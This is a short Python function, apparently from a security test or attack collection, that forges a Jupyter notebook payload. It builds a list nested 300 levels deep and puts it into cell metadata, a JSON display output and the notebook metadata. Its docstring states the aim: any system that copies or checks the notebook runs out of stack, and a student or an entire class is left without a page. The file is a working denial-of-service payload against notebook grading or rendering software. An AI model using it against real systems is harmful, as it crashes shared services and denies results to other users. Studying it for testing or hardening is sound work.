"""Hand in metadata and an output of 300 lists within lists.

Gain: whoever copies or checks them runs out of stack, and the student, or the class, has no page.
"""


def forge(notebook):
    from nbformat.v4 import new_code_cell, new_output

    deep = [1]
    for _ in range(300):
        deep = [deep]
    cell = new_code_cell("'deep'", metadata={"mine": deep})
    cell.outputs = [new_output("display_data", {"application/json": deep})]
    notebook.metadata["mine"] = deep
    notebook.cells.append(cell)
